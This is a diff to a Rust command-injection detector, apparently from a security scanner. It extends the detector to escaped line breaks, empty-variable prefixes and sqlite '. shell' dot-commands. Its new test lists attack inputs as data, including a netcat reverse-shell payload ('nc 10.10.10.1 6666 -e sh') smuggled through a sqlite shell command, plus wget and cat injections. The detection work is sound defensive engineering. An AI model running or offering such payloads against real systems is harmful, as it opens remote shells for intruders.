@@ -305,6 +305,24 @@ pub fn is_command_injection(input: &str) -> Option<Match> {
     if input.len() < 2 {
         return None;
     }
+    let found = judge(input);
+    if found.is_some() || !input.contains("\\n") && !input.contains("\\r") {
+        return found;
+    }
+    // A line break written as its escape (`;\n.shell nc ...`): whatever unescapes the value
+    // (a JSON or C-string layer, `echo -e`, `printf`) hands the shell a new command line.
+    let unescaped = input
+        .replace("\\r\\n", "\n")
+        .replace("\\n", "\n")
+        .replace("\\r", "\n");
+    judge(&unescaped).map(|m| Match {
+        start: m.start.min(input.len()),
+        end: m.end.min(input.len()),
+        ..m
+    })
+}
+
+fn judge(input: &str) -> Option<Match> {
     let shell = normalize_shell(input);
     let bytes = shell.as_bytes();
     let evidence = |s: usize, reason: &'static str| {
@@ -494,8 +512,9 @@ fn command_at(
         .take(5)
         .collect();
     // `$SHELL -c "..."`, `$a -nlvp 555`, `$c $a$b`: the command word comes from a variable.
+    // (`}` does not end the command here: `${SHELL} -c`.)
     let raw: Vec<&str> = shell[at..]
-        .split(['\n', ';', '|', '&', '`', ')', '}'])
+        .split(['\n', ';', '|', '&', '`', ')'])
         .next()
         .unwrap_or("")
         .split_whitespace()
@@ -513,6 +532,17 @@ fn command_at(
         return Some("command taken from a variable");
     }
     let first = *words.first()?;
+    // `|$u wget x`, `;$a cat f`: an (unset) variable expanded before the command word is
+    // there only to split the command from its separator for a filter.
+    if after_separator
+        && let [var, next, ..] = raw[..]
+        && var.starts_with('$')
+        && (2..=3).contains(&var.len())
+        && var[1..].bytes().all(|b| b.is_ascii_alphabetic())
+        && (STRONG.contains(&command_name(next)) || WEAK.contains(&command_name(next)))
+    {
+        return Some("command after an empty variable");
+    }
     // `alias ls-al='ls -al'`, `alias +m a=b`: a shell alias definition.
     if first == "alias"
         && words[1..]
@@ -522,8 +552,15 @@ fn command_at(
     {
         return Some("alias definition");
     }
-    // `.shell`, `.system`: sqlite3 shell dot-commands after a statement.
-    if after_separator && matches!(first, ".shell" | ".system" | ".sh" | ".databases" | ".load") {
+    // `.shell`, `.system`: sqlite3 shell dot-commands after a statement (`. shell` with the
+    // space the sqlite shell tolerates).
+    let dot_command = matches!(first, ".shell" | ".system" | ".sh" | ".databases" | ".load")
+        || (first == "."
+            && matches!(words.get(1), Some(&("shell" | "system")))
+            && words.get(2).is_some_and(|w| {
+                STRONG.contains(&command_name(w)) || WEAK.contains(&command_name(w))
+            }));
+    if after_separator && dot_command {
         return Some("sqlite shell command");
     }
     if TOOLS.contains(&command_name(first)) {
@@ -765,6 +802,32 @@ mod tests {
                 is_command_injection(benign).is_none(),
                 "false positive: {benign}: {:?}",
                 is_command_injection(benign)
+            );
+        }
+    }
+
+    #[test]
+    fn escaped_line_breaks_empty_variables_and_braced_shells() {
+        for attack in [
+            ";\\n.shell nc 10.10.10.1 6666 -e sh\\n",
+            "\";\\n. shell nc 10.10.10.1 6666 -e sh\\n",
+            ";\\n.databases",
+            "|$u wget test",
+            ";$a cat test.txt",
+            "${SHELL} -c \"echo hi\"",
+        ] {
+            assert!(is_command_injection(attack).is_some(), "missed: {attack}");
+        }
+        for benign in [
+            "line one\\nline two",
+            "C:\\new\\reports",
+            "price: $5 cat food",
+            "a \\n. shell company",
+            "${name} likes cats",
+        ] {
+            assert!(
+                is_command_injection(benign).is_none(),
+                "false positive: {benign}"
             );
         }
     }
